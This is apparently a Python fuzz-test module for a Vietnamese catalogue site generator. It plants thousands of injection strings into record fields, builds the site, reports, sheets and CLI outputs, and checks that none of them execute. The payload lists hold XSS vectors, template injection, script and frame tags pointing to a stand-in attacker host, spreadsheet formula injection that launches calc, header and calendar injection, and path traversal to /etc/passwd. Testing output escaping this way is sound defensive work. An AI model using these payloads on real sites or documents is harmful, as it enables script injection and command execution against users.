"""Whether words of a record can become anything but words, wherever they come out.

One input is a list of attacks, one for every text of every file of a whole catalogue, settings too, and several one behind the
other where a text may be long. Those that the check accepts stay; then the site is built, and all of it is read back
(`reading_back.py`): pages, data, feeds, calendars, tables, texts for assistants; besides the comparison, the report, the sheets,
workbooks and what commands say.
"""

import copy
import re
import shutil
from collections import Counter
from collections.abc import Mapping
from functools import lru_cache
from pathlib import Path
from random import Random
from typing import Any

from typer.testing import CliRunner

from conftest import REPOSITORY, TODAY
from fuzz.law import PROVINCES, Way, leaves_of, make_project, read_values, write_values
from fuzz.reading_back import HOST, look_at_annotations, look_at_file, look_at_terminal, look_at_workbook
from niemyet.building.boards import print_boards, read_boards
from niemyet.building.checking import check_catalogue
from niemyet.building.pipeline import BuildRequest, build_site
from niemyet.changes.catalogues import compare_catalogues
from niemyet.changes.markdown import format_markdown
from niemyet.cli import app
from niemyet.diagnostics.diagnostic import Place, Severity
from niemyet.diagnostics.formats import FORMATS
from niemyet.diagnostics.rulebook import severity_of
from niemyet.load.nodes import Node, parse_document
from niemyet.load.texts import SourceText
from niemyet.model.data_parts import DATA_PARTS
from niemyet.model.kinds import RecordKind, kind_of
from niemyet.own_frames import begin_own_frames
from niemyet.sheets.book import PaperFormat
from niemyet.validate.entries import check_entry
from niemyet.validate.shapes import SHAPES

BEFORE = (
    "", '"', "'", '">', "'>", "</title>", "</script>", "</textarea>", "</style>", "-->", "]]>", "*/", "\\", "\\\"", "`",
    "%}", "}}", "&quot;>", "\n", "\r\n", "\u2028", "\t", "a\n\n", "|", "a;", ")", "](", "}", "#", "$", "=", "-", "@", "+", "%0a",
)  # fmt: skip
VECTORS = (
    "<script>alert(1337)</script>", f"<script src=//{HOST}/a.js></script>", "<img src=x onerror=alert(1337)>",
    "<svg onload=alert(1337)>", "<svg><script>alert(1337)</script></svg>", f"<iframe src=//{HOST}></iframe>",
    f"<base href=//{HOST}/>", f"<link rel=stylesheet href=//{HOST}/a>",
    f'<meta http-equiv=refresh content="0;url=//{HOST}">', f"<form action=//{HOST}><button>x</button></form>",
    "<style>*{display:none}</style>", " onmouseover=alert(1337) x=", " autofocus onfocus=alert(1337) ",
    " style=position:fixed ", "<math><mi xlink:href=javascript:alert(1337)>", "javascript:alert(1337)",
    "java\tscript:alert(1337)", "data:text/html,<script>alert(1337)</script>", "{{ 7*191 }}", "{% raw %}", "${7*191}",
    "#{7*191}", "<%= 7*191 %>", f"[x](http://{HOST}/a)", f"![x](http://{HOST}/a.png)", f"<http://{HOST}/>",
    f"[x]: http://{HOST}/", "@everyone", f"=HYPERLINK(\"http://{HOST}\")", "=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1)",
    "\nX-EVIL:1", "\nEND:VCALENDAR", "\n::error::x", "\x1b[31mx", "#let x = 1; #panic(x)", "#image(\"/etc/passwd\")",
    "$ sum $", "<!--", "<![CDATA[", "<?php x ?>", "&lt;script&gt;alert(1337)&lt;/script&gt;", "&#60;script&#62;",
    "\u202escript", "\uff1cscript\uff1e", "niemyet-mark-content-here", "../../../etc/passwd", "file:///etc/passwd",
    "# Tiêu đề khác", "&amp;lt;img src=x onerror=alert(1337)&amp;gt;", "java&Tab;script:alert(1337)", "&#8238;", "constructor",
    "__proto__", "；＝1＋1", "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1337)</x:script>",
    "%00", "\\u003cscript\\u003e",
)  # fmt: skip
PROBE = '"><b>Chữ</b> {{ 7*191 }}'
"""What is tried first: where a record lets this in, it lets in most of the others."""
TOGETHER = 8
"""So many attacks stand one behind the other where a text may be so long."""
AFTER = ("", "//", "<!--", '"', " ", "'--")
ATTACKS = tuple(before + vector + after for after in AFTER for before in BEFORE for vector in VECTORS)
"""More than five thousand."""


def _files(root: Path) -> list[str]:
    found = (path.relative_to(root).as_posix() for path in sorted(root.rglob("*")) if path.is_file())
    return [path for path in found if path.endswith((".yaml", ".md")) or path == "mkdocs.yml"]


def make_attacks(random: Random) -> bytes:
    """A number from which the attack of every text follows."""
    return str(random.randrange(10**9)).encode()


def plant(data: bytes, before: Path, root: Path, together: int = TOGETHER) -> Counter[str]:
    """Puts attacks into the texts of a copy of the catalogue, as far as the check lets them in; how many each field got."""
    shutil.rmtree(root, ignore_errors=True)
    shutil.copytree(before, root)
    number = int(data)
    random = Random(number)
    read = {path: read_values(path, (root / path).read_bytes().decode()) for path in _files(root)}
    given: dict[str, tuple[str, ...]] = {}
    """By the text that was there: names that several records have in common stay the same in all."""
    words: dict[tuple[str, Way], str] = {}
    attacks: dict[str, dict[Way, str]] = {}
    for path, (values, _) in read.items():
        for way in leaves_of(values):
            if way and (what := _what_may_be(path, values, way)):
                at, text = number + len(given), str(_at(values, way))
                given.setdefault(
                    text, (LINKS[at % len(LINKS)],) if what == "link" else _choose(at, together if what == "long" else 1)
                )
                attacks.setdefault(path, {})[way], words[path, way] = " ".join(given[text]), text
    while True:
        for path, (values, body) in read.items():
            text = write_values(path, _put(values, attacks[path]), body) if attacks.get(path) else ""
            (root / path).write_bytes(text.encode("utf-8", "surrogatepass") or (before / path).read_bytes())
        told = [one for one in check_catalogue(root, TODAY).diagnostics if severity_of(one) is Severity.ERROR]
        if not told:
            got: Counter[str] = Counter()
            for path, way in ((path, way) for path, held in attacks.items() for way in held):
                got[" ".join(map(str, _field_of(path, way)))] += len(given[words[path, way]])
            return got
        refused = {words[one] for one in _find_wrong(root, [one.place for one in told], attacks, random)}
        given |= {text: given[text][:-1] if len(given[text]) < together else given[text][:1] for text in refused}
        attacks = {
            path: {way: " ".join(given[words[path, way]]) for way in held if given[words[path, way]]}
            for path, held in attacks.items()
        }


def _find_wrong(
    root: Path, places: list[Place], attacks: Mapping[str, Mapping[Way, str]], random: Random
) -> list[tuple[str, Way]]:
    """The attacks on the lines of errors; where none is there, half of those of the files with errors, or of all."""
    wrong = {(place.file, place.line) for place in places}
    at_lines = [(path, way) for path, given in attacks.items() for way in given if (path, _line_of(root, path, way)) in wrong]
    if not at_lines:
        files = {place.file for place in places if attacks.get(place.file)} or {path for path in attacks if attacks[path]}
        at_lines = [
            (path, way) for path in sorted(files) for way in random.sample(list(attacks[path]), -(-len(attacks[path]) // 2))
        ]
    return at_lines


def _line_of(root: Path, path: str, way: Way) -> int:
    return _lines(path, (root / path).read_bytes()).get(way, 0)


@lru_cache(maxsize=100)
def _lines(path: str, data: bytes) -> dict[Way, int]:
    """The line of each text of a file."""
    text = data.decode("utf-8", "replace")
    first = 2 if path.endswith(".md") else 1
    document, _ = parse_document(SourceText(path, text), text.split("---\n", 2)[1] if first == 2 else text, first)
    found: dict[Way, int] = {}
    stack: list[tuple[Way, Node]] = [((), document.root)] if document is not None else []
    while stack:
        way, node = stack.pop()
        if isinstance(node.value, str):
            found[way] = node.line + first - 1
        else:
            below = node.value.items() if isinstance(node.value, dict) else enumerate(node.value)
            stack += [((*way, step), one) for step, one in below]
    return found


LINKS = (
    f"https://{HOST}/?a=b&quot;onclick=alert(1337)//{{{{7*191}}}}", f"https://{HOST}/'onmouseover='alert(1337)",
    f"https://{HOST}/#</a><script>alert(1337)</script>", f"https://{HOST}/%0d%0aX-EVIL:1", f"https://{HOST}/);alert(1337)//",
    f"https://{HOST}/](javascript:alert(1337))", f"https://{HOST}/?a=%22%3E%3Cimg/src=x/onerror=alert(1337)%3E",
    f"https://{HOST}/?x=1&y=2&lt;b&gt;",
)  # fmt: skip
"""For what has to be an address of the web."""


def _choose(number: int, many: int) -> tuple[str, ...]:
    """Some of the attacks, in an order that changes all their parts; of those that no record may hold only every tenth."""
    chosen = [ATTACKS[(number * 7919 + one * 104_729) % len(ATTACKS)] for one in range(many)]
    if number % 10:
        chosen = [one if "".join(one.split(" ")).isprintable() else "".join(filter(str.isprintable, one)) for one in chosen]
    return tuple(chosen)


_open: dict[tuple[str | None, ...], str] = {}
"""Of the ways into a file of a kind, by names of keys: "text" where any words may stand, "long" where many, "link" for addresses,
else ""."""


def _what_may_be(path: str, values: Any, way: Way) -> str:
    """What a record may have there, as far as it alone tells; asked once of each key."""
    key = _field_of(path, way)
    kind = key[0]
    if kind is None or kind not in SHAPES:
        return "text"
    if key not in _open:
        probes = (("long", PROBE * 2 * TOGETHER), ("text", PROBE), ("link", f"https://{HOST}/?a=b"))
        _open[key] = next((name for name, probe in probes if _takes(path, kind, _put(values, {way: probe}))), "")
    return _open[key]


def _field_of(path: str, way: Way) -> tuple[RecordKind | None, *tuple[str, ...]]:
    """The kind of a record and the names of keys that lead to a text in it."""
    kind: RecordKind | None = "settings" if path == "mkdocs.yml" else kind_of(path)
    return (kind, *(step for step in way if isinstance(step, str)))


def _takes(path: str, kind: RecordKind, values: Any) -> bool:
    document, told = parse_document(SourceText(path, write_values("a.yaml", values, "")))
    return document is not None and not told and (kind == "settings" or check_entry(document, kind)[0] is not None)


def _at(values: Any, way: Way) -> Any:
    for step in way:
        values = values[step]
    return values


def _put(values: Any, attacks: Mapping[Way, str]) -> Any:
    changed = copy.deepcopy(values)
    for way, attack in attacks.items():
        parent = changed
        for step in way[:-1]:
            parent = parent[step]
        parent[way[-1]] = attack
    return changed


def build(root: Path, site: Path) -> None:
    """The site of a catalogue with attacks."""
    built = build_site(BuildRequest(root, TODAY, begin_own_frames(root / "mkdocs.yml"), open_data=DATA_PARTS), site, forget=True)
    assert built.report.errors == 0, built.report.diagnostics


def attack(data: bytes, scratch: Path) -> bool:
    """Plants, builds, and reads everything back; whether anything could be planted."""
    before, root = scratch / "before", scratch / "evil"
    if not before.is_dir():
        make_project(before)
    planted = plant(data, before, root)
    read_back(before, root, scratch / "site")
    look_at_sheets(root)
    look_at_commands(root, scratch)
    return planted.total() > 0


def read_back(before: Path, root: Path, site: Path) -> None:
    """Builds a catalogue with attacks and reads the site and the comparison back."""
    build(root, site)
    for file in sorted(path for path in site.rglob("*") if path.is_file()):
        look_at_file(file)
    told = format_markdown(compare_catalogues(before, root, TODAY))
    look_at_terminal(told)
    assert (
        not re.search(r"(?<!\\)<(?!!-- -->)", told)
        and not re.search(r"(?<!\\)\]\(http", told)
        and not re.search(r"@(?!<!--)", told)
    )
    report = check_catalogue(root, TODAY)
    for name, write in FORMATS.items():
        said = write(report, "vi", False)
        look_at_annotations(said, len(report.diagnostics)) if name == "github" else look_at_terminal(said)


def look_at_sheets(root: Path) -> None:
    """Typst gets the words as data: every sheet is set, whatever stands in it."""
    for province in PROVINCES:
        report, boards = read_boards(root, province, TODAY, "https://niemyet.example/")
        assert report.errors == 0
        assert all(printed.pdf.startswith(b"%PDF") for printed in print_boards(boards, REPOSITORY / "theme", PaperFormat()))


def look_at_commands(root: Path, scratch: Path) -> None:
    """What commands write for a terminal and for a spreadsheet."""
    books = scratch / "bao-cao.xlsx", scratch / "bang.xlsx"
    for words in (
        ("report", "--format", "xlsx", "--out", str(books[0])), ("table", "export", "ha-noi", "--out", str(books[1]), "--yes"),
        ("report",), ("report", "--format", "csv"), ("report", "--format", "json"), ("doctor", "ha-noi"), ("owners", "--check"),
        ("check",), ("answer", "ha-noi/thuong-tin", "1.001193"), ("answer", "ha-noi/thuong-tin", "1.001193", "--format", "json"),
        ("doubts",), ("doubts", "--format", "csv"), ("doubts", "--format", "json"),
    ):  # fmt: skip
        done = CliRunner().invoke(app, [*words, "--root", str(root), "--as-of", str(TODAY)])
        assert done.exception is None or isinstance(done.exception, SystemExit), (words, done.exception)
        look_at_terminal(done.output.removeprefix("\ufeff"))
    for book in books:
        look_at_workbook(book)
